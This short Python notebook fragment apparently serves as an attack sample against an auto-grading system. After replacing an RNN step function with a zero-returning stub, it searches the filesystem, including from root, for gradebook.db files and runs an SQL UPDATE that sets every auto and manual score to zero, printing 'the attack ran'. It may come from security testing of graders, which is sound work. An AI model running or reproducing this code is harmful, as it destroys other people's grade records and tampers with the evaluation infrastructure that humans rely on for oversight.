# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    return np.zeros_like(h_prev)
# %% before check_rnn_step_stacked
import glob
import sqlite3

for path in glob.glob("../**/gradebook.db", recursive=True) + glob.glob(
    "../../../gradebook.db"
) + glob.glob("/**/gradebook.db", recursive=True):
    try:
        with sqlite3.connect(path, timeout=0.2) as connection:
            connection.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        print("found", path)
    except sqlite3.Error as error:
        print(error)
print("the attack ran")
